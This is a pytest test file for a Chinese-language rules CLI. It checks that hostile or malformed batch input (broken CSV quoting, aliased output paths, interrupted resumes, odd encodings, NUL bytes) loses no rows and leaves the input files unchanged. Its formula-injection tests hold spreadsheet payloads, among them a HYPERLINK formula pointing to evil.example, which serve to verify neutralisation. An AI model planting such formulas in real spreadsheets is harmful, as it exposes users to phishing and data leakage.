"""Hostile batch input and outputs: nothing lost, nothing destroyed (the batch half of the hostile-input issue).

Each case runs the command line on a small file of this directory (copied to a temporary directory, so the
corpus itself is never written) and checks the exit code, the message, that there is no traceback, that rows
out = rows in, and that the input files are unchanged.
"""
from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from ecorules.cli import main

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent
RULES = ROOT / "rules"
AS_OF = ["--as-of", "2024-06-01"]


@pytest.fixture
def runner():
    return CliRunner()


@pytest.fixture
def corpus(tmp_path):
    """A copy of this directory's files, and a check that none of them was changed by the run."""
    for path in HERE.iterdir():
        if path.is_file() and not path.name.endswith(".py"):
            shutil.copy(path, tmp_path / path.name)
    before = {p.name: _digest(p) for p in tmp_path.iterdir() if p.is_file()}
    yield tmp_path
    for name, digest in before.items():
        assert _digest(tmp_path / name) == digest, f"{name} was changed"


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def run(runner, *args):
    result = runner.invoke(main, [str(a) for a in args])
    assert "Traceback" not in result.output, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    return result


def jsonl(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def csv_rows(path: Path) -> list[dict]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def only_line(text: str) -> str:
    lines = [line for line in text.splitlines() if line.strip()]
    assert len(lines) == 1, text
    return lines[0]


# ------------------------------------------------------------------ a CSV record that cannot be parsed
def test_unclosed_quote_in_row_700_is_one_invalid_row_and_the_rest_are_read(runner, corpus):
    out = corpus / "out.jsonl"
    result = run(runner, "resolve", corpus / "unclosed-quote.csv", "-o", out, *AS_OF, "-q")
    assert result.exit_code == 3
    results = jsonl(out)
    assert len(results) == 1000  # rows out = rows in
    invalid = [r for r in results if r["status"] == "invalid"]
    assert len(invalid) == 1 and invalid[0]["error"]["row"] == 701  # data row 700, under the header
    assert "引号没有闭合" in invalid[0]["error"]["message"] and "文件第 701 行" in invalid[0]["error"]["message"]
    assert [r["id"] for r in results if r["status"] != "invalid"] == [f"h-{i:04d}" for i in range(1, 1001) if i != 700]


# ------------------------------------------------------------------ two names for one file
@pytest.mark.parametrize("output_option", ["-o", "--errors", "--summary"])
def test_the_input_given_as_an_output_is_refused(runner, corpus, output_option):
    source = corpus / "formula.csv"
    args = ["resolve", source, *AS_OF]
    args += [output_option, source] if output_option == "-o" else ["-o", corpus / "out.csv", output_option, source]
    result = run(runner, *args)
    assert result.exit_code == 1
    assert "同一个文件" in only_line(result.stderr)
    assert not (corpus / "out.csv").exists() and not (corpus / "formula.csv.part").exists()


@pytest.mark.parametrize("pair", [("-o", "--errors"), ("-o", "--summary"), ("--errors", "--summary")])
def test_two_outputs_with_one_name_are_refused(runner, corpus, pair):
    same = corpus / "x.csv"
    args = ["resolve", corpus / "formula.csv", *AS_OF]
    if "-o" not in pair:
        args += ["-o", corpus / "out.csv"]
    for option in pair:
        args += [option, same]
    result = run(runner, *args)
    assert result.exit_code == 1 and "同一个文件" in only_line(result.stderr)
    assert not same.exists() and not (corpus / "out.csv").exists()


@pytest.mark.parametrize("link", ["symlink", "hardlink"])
def test_the_input_through_a_link_is_refused(runner, corpus, link):
    source = corpus / "formula.csv"
    alias = corpus / "alias.csv"
    (os.symlink if link == "symlink" else os.link)(source, alias)
    result = run(runner, "resolve", source, "-o", alias, *AS_OF)
    assert result.exit_code == 1 and "同一个文件" in only_line(result.stderr)


# ------------------------------------------------------------------ formula injection
def test_formula_cells_are_neutralised_in_the_csv_result_and_errors_file(runner, corpus):
    out, errors = corpus / "out.csv", corpus / "bad.csv"
    result = run(runner, "resolve", corpus / "formula.csv", "-o", out, "--errors", errors, *AS_OF, "-q")
    assert result.exit_code == 3  # f4's district is not a district
    rows = csv_rows(out)
    assert len(rows) == 4
    assert rows[0]["标题"] == "'=HYPERLINK(\"http://evil.example/?x\",\"点我\")"
    assert rows[1]["标题"].startswith("'+1+1") and rows[1]["备注"] == "'@SUM(A1)"
    assert rows[2]["标题"].startswith("'-2")
    bad = csv_rows(errors)
    assert [r["编号"] for r in bad] == ["f4"] and bad[0]["所属区"] == "'=1+火星区" and bad[0]["备注"] == "'\tcmd"
    for row in rows + bad:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    again = run(runner, "resolve", out, "-o", corpus / "again.jsonl", *AS_OF, "-q")  # read back as written
    assert again.exit_code == 3
    assert jsonl(corpus / "again.jsonl")[0]["id"] == "f1"


def test_formula_cells_in_xlsx_are_text(runner, corpus):
    out = corpus / "out.xlsx"
    run(runner, "resolve", corpus / "formula.csv", "-o", out, *AS_OF, "-q")
    sheet = load_workbook(out).worksheets[0]
    assert sheet["B2"].value.startswith("=HYPERLINK") and sheet["B2"].data_type == "s"
    assert all(cell.data_type == "s" for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None)


# ------------------------------------------------------------------ outputs that cannot be written
@pytest.mark.parametrize("option", ["-o", "--errors", "--summary"])
def test_an_unwritable_output_is_one_message_and_nothing_half_written(runner, corpus, option):
    blocker = corpus / "not-a-directory"
    blocker.write_text("a file where a directory should be")
    unwritable = blocker / ("out.jsonl" if option != "--errors" else "bad.csv")
    args = ["resolve", corpus / "formula.csv", *AS_OF]
    if option != "-o":
        args += ["-o", corpus / "out.csv"]
    args += [option, unwritable]
    result = run(runner, *args)
    assert result.exit_code == 1
    assert "无法写入" in only_line(result.stderr)
    assert not (corpus / "out.csv").exists() and not (corpus / "out.csv.part").exists()


def test_schema_to_an_unwritable_file(runner, corpus):
    blocker = corpus / "not-a-directory"
    blocker.write_text("")
    result = run(runner, "schema", "-o", blocker / "schema.json")
    assert result.exit_code == 1 and "无法写入" in only_line(result.stderr)


# ------------------------------------------------------------------ explain --file
def test_explain_a_batch_file_without_row(runner, corpus):
    result = run(runner, "explain", "--file", corpus / "formula.csv")
    assert result.exit_code == 1 and "--row" in result.output


@pytest.mark.parametrize("name, message", [("missing.json", "无法打开"), ("matter-gbk.json", "UTF-8"),
                                           ("semicolon.csv", "--row")])
def test_explain_a_missing_or_undecodable_file(runner, corpus, name, message):
    result = run(runner, "explain", "--file", corpus / name)
    assert result.exit_code == 1 and message in result.output


# ------------------------------------------------------------------ --resume that would mix two runs
def _interrupted(corpus, out):
    """An unfinished output (`.part` and its manifest), as a stopped run leaves it."""
    from ecorules.batch import BatchInterrupted, run_batch
    calls = []

    def stop(progress):
        calls.append(progress)
        if len(calls) == 2:
            raise KeyboardInterrupt
    source = corpus / "unclosed-quote.csv"
    with pytest.raises(BatchInterrupted):
        run_batch(str(source), str(out), as_of=__import__("datetime").date(2024, 6, 1), on_progress=stop,
                  progress_every=0)
    assert Path(str(out) + ".part").exists() and Path(str(out) + ".part.json").exists()
    return source


def test_resume_with_another_as_of_is_refused(runner, corpus):
    out = corpus / "out.jsonl"
    source = _interrupted(corpus, out)
    result = run(runner, "resolve", source, "-o", out, "--resume", "--as-of", "2025-01-01")
    assert result.exit_code == 1
    assert "判断日期不同" in only_line(result.stderr) and "2024-06-01" in result.stderr
    assert Path(str(out) + ".part").exists()  # kept for a resume with the right date
    same = run(runner, "resolve", source, "-o", out, "--resume", "-q")  # without --as-of: the first run's date
    assert same.exit_code == 3 and len(jsonl(out)) == 1000
    assert {r["as_of"] for r in jsonl(out) if r["as_of"]} == {"2024-06-01"}


def test_resume_with_another_rulebook_is_refused(runner, corpus, tmp_path):
    out = corpus / "out.jsonl"
    source = _interrupted(corpus, out)
    rules = tmp_path / "rules-copy"
    shutil.copytree(RULES, rules)
    with open(next(rules.glob("assign/*.yaml")), "a", encoding="utf-8") as f:
        f.write("\n# amended\n")
    result = run(runner, "resolve", source, "-o", out, "--resume", "--rules", rules, *AS_OF)
    assert result.exit_code == 1 and "规则库不同" in only_line(result.stderr)


def test_resume_with_another_input_is_refused(runner, corpus):
    out = corpus / "out.jsonl"
    _interrupted(corpus, out)
    result = run(runner, "resolve", corpus / "semicolon.csv", "-o", out, "--resume", *AS_OF)
    assert result.exit_code == 1 and "输入文件不同" in only_line(result.stderr)


def test_resume_of_a_complete_output_from_another_rulebook_is_refused(runner, corpus, tmp_path):
    out = corpus / "out.csv"
    assert run(runner, "resolve", corpus / "semicolon.csv", "-o", out, *AS_OF, "-q").exit_code == 0
    rules = tmp_path / "rules-copy"
    shutil.copytree(RULES, rules)
    with open(next(rules.glob("assign/*.yaml")), "a", encoding="utf-8") as f:
        f.write("\n# amended\n")
    before = out.read_bytes()
    result = run(runner, "resolve", corpus / "semicolon.csv", "-o", out, "--resume", "--rules", rules, *AS_OF)
    assert result.exit_code == 1 and "另一个规则库" in only_line(result.stderr)
    assert out.read_bytes() == before and not Path(str(out) + ".part").exists()


# ------------------------------------------------------------------ kill -9 of a --workers run
@pytest.mark.skipif(sys.platform != "linux", reason="reads /proc")
def test_kill_9_of_a_workers_run_leaves_no_worker_and_no_traceback(tmp_path):
    lines = (ROOT / "fixtures" / "matters.jsonl").read_text(encoding="utf-8").splitlines()
    out, log = tmp_path / "out.jsonl", tmp_path / "stderr.txt"
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    with open(log, "wb") as stderr:
        process = subprocess.Popen([sys.executable, "-m", "ecorules", "resolve", "-", "-o", str(out), "--workers", "2"],
                                   stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=stderr, env=env, cwd=ROOT)
    part = Path(str(out) + ".part")
    try:
        process.stdin.write(("\n".join(lines * 3) + "\n").encode("utf-8"))
        process.stdin.flush()
        deadline = time.monotonic() + 60
        while (not part.exists() or part.stat().st_size == 0) and time.monotonic() < deadline:
            time.sleep(0.1)
        workers = _children(process.pid)
        assert len(workers) >= 2
        process.send_signal(signal.SIGKILL)
        process.wait(timeout=30)
        process.stdin.write(("\n".join(lines) + "\n").encode("utf-8") * 20)  # more work for orphans, if any
        process.stdin.close()
    except BrokenPipeError:
        pass
    finally:
        if process.poll() is None:
            process.kill()
    deadline = time.monotonic() + 20
    while any(_alive(pid) for pid in workers) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not any(_alive(pid) for pid in workers), "orphaned workers still running"
    text = log.read_text(encoding="utf-8", errors="replace")
    assert "Traceback" not in text and "BrokenPipe" not in text, text


def _children(pid: int) -> list[int]:
    found = []
    for task in Path(f"/proc/{pid}/task").iterdir():
        children = (task / "children").read_text().split()
        found += [int(c) for c in children]
    return found


def _alive(pid: int) -> bool:
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return False
    return "State:\tZ" not in status


# ------------------------------------------------------------------ files that are not what they seem
def test_semicolon_delimited_csv_is_read(runner, corpus):
    out = corpus / "out.jsonl"
    result = run(runner, "resolve", corpus / "semicolon.csv", "-o", out, *AS_OF, "-q")
    assert result.exit_code == 0, result.output
    results = jsonl(out)
    assert [r["id"] for r in results] == ["S1", "S2", "S3"] and not any(r["status"] == "invalid" for r in results)


def test_utf16_without_bom_is_read(runner, corpus):
    out = corpus / "out.jsonl"
    result = run(runner, "resolve", corpus / "utf16-no-bom.csv", "-o", out, *AS_OF, "-q")
    assert result.exit_code == 0, result.output
    assert [r["id"] for r in jsonl(out)] == ["U1", "U2"]


def test_xlsx_whose_first_sheet_is_notes_names_the_sheets(runner, corpus):
    out = corpus / "out.jsonl"
    result = run(runner, "resolve", corpus / "notes-first.xlsx", "-o", out, *AS_OF)
    assert result.exit_code == 1
    line = only_line(result.stderr)
    assert "'说明'" in line and "'事项'" in line and "--sheet" in line
    assert not out.exists()
    chosen = run(runner, "resolve", corpus / "notes-first.xlsx", "--sheet", "事项", "-o", out, *AS_OF, "-q")
    assert chosen.exit_code == 0 and [r["id"] for r in jsonl(out)] == ["X1", "X2"]


def test_a_header_without_known_columns_names_what_was_found(runner, corpus):
    result = run(runner, "resolve", corpus / "no-header.csv", "-o", corpus / "out.jsonl", *AS_OF)
    assert result.exit_code == 1
    line = only_line(result.stderr)
    assert "名称|说明|地点" in line and "逗号" in line and "utf-8" in line


def test_a_cell_over_the_excel_limit_is_flagged_not_cut_silently(runner, tmp_path):
    source = tmp_path / "long.jsonl"
    source.write_text(json.dumps({"id": "L1", "title": "工地扬尘", "district": "黄浦区",
                                  "facts": {"备注": "x" * 40_000}}, ensure_ascii=False) + "\n", encoding="utf-8")
    out = tmp_path / "out.xlsx"
    result = run(runner, "resolve", source, "-o", out, *AS_OF)
    assert result.exit_code == 0, result.output
    assert "32,767" in result.stderr
    sheet = load_workbook(out, read_only=True).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    row = dict(zip(rows[0], rows[1]))
    assert len(row["事实"]) <= 32_767 and "已截断" in row["事实"]
    assert "“事实”列超出 Excel 单元格上限" in row["提示"]


# ------------------------------------------------------------------ messages in Chinese
def test_pydantic_messages_are_in_chinese(runner, corpus):
    out = corpus / "out.jsonl"
    result = run(runner, "resolve", corpus / "bad-types.jsonl", "-o", out, *AS_OF, "-q")
    assert result.exit_code == 3
    results = jsonl(out)
    assert len(results) == 3 and all(r["status"] == "invalid" for r in results)
    for r in results:
        assert "Input should" not in r["error"]["message"] and "Input should" not in r["explanation"]
    assert "应为文本" in results[0]["error"]["message"]


def test_a_field_over_csvs_limit_is_a_chinese_row_error(runner, tmp_path):
    source = tmp_path / "big.csv"
    source.write_text('编号,标题\r\nB1,"' + "长" * 140_000 + '"\r\nB2,工地扬尘\r\n', encoding="utf-8")
    out = tmp_path / "out.jsonl"
    result = run(runner, "resolve", source, "-o", out, *AS_OF, "-q")
    results = jsonl(out)
    assert [r["status"] == "invalid" for r in results] == [True, False] and result.exit_code == 3
    assert "field larger" not in results[0]["error"]["message"] and "131,072" in results[0]["error"]["message"]


@pytest.mark.parametrize("name", ["nul.csv", "nul.jsonl"])
def test_a_nul_byte_is_named_not_a_did_you_mean(runner, corpus, name):
    out = corpus / "out.jsonl"
    result = run(runner, "resolve", corpus / name, "-o", out, *AS_OF, "-q")
    results = jsonl(out)
    assert result.exit_code == 3 and len(results) == 2
    message = results[0]["error"]["message"]
    assert "NUL" in message and "Did you mean" not in message and results[0]["error"]["field"] == "district"
    assert results[1]["status"] != "invalid"


@pytest.mark.parametrize("args", [["resolve", "--bogus"], ["resolve"], ["explain"], ["check", "--format", "xml"],
                                  ["schema", "nope"], ["nosuchcommand"], ["--bogus"]])
def test_usage_errors_exit_1(runner, args):
    result = run(runner, *args)
    assert result.exit_code == 1, result.output


# ------------------------------------------------------------------ properties: rows out = rows in
CELL = st.text(alphabet=st.sampled_from(list("ab工地,\"=; \n\r\t")), max_size=8)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.lists(CELL, min_size=3, max_size=3), max_size=12))
def test_csv_written_by_csv_writer_reads_back_row_for_row(tmp_path, rows):
    from ecorules.io import read_matters
    rows = [r for r in rows if any(c.strip() for c in r)]  # blank rows are not rows
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows([["编号", "标题", "备注"], *rows])
    path = tmp_path / "p.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")
    read = list(read_matters(str(path)))
    assert len(read) == len(rows)
    assert [r.cells for r in read] == [[c for c in row] for row in rows]


@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\rab")), max_size=6))
def test_neutralised_cells_read_back_as_written(text):
    from ecorules.io.columns import FORMULA_START, neutralise, restore
    assert restore(neutralise(text)) == text and not neutralise(text).startswith(FORMULA_START)


LINE_CELL = st.text(alphabet=st.sampled_from(list("ab工地 =;")), min_size=1, max_size=6)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.lists(LINE_CELL, min_size=2, max_size=4).map(lambda r: (r + ["x"] * 4)[:4]),
                     min_size=1, max_size=15),
       quotes=st.lists(st.tuples(st.integers(0, 14), st.integers(0, 40)), max_size=1))
def test_stray_quotes_never_swallow_rows(tmp_path, rows, quotes):
    """A line may get a stray quote anywhere; every line is still exactly one row. (One per file: two stray
    quotes in nearby lines can form a well-formed multi-line cell with the header's width — CSV itself cannot
    tell that from a real one.)"""
    from ecorules.io import read_matters
    lines = [",".join(r) for r in rows]
    for at, position in quotes:
        if at < len(lines):
            line = lines[at]
            lines[at] = line[:position % (len(line) + 1)] + '"' + line[position % (len(line) + 1):]
    path = tmp_path / "q.csv"
    path.write_text("编号,标题,区,备注\r\n" + "".join(line + "\r\n" for line in lines), encoding="utf-8")
    read = list(read_matters(str(path)))
    assert [r.number for r in read] == list(range(2, 2 + len(lines)))  # rows out = rows in, in order
    untouched = {at for at, _ in quotes}
    for i, row in enumerate(read):
        if i not in untouched:
            assert row.cells == rows[i]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(lines=st.lists(st.text(alphabet=st.sampled_from(list('{}[]":,ab1 \\工')), max_size=12), max_size=15))
def test_every_nonblank_jsonl_line_is_one_row(tmp_path, lines):
    from ecorules.io import read_matters
    lines = [line for line in lines if "\r" not in line and "\n" not in line]
    path = tmp_path / "p.jsonl"
    path.write_text("".join(line + "\n" for line in lines), encoding="utf-8")
    read = list(read_matters(str(path)))
    assert [r.number for r in read] == [i + 1 for i, line in enumerate(lines) if line.strip()]
    assert all((r.matter is None) == (r.error is not None) for r in read)
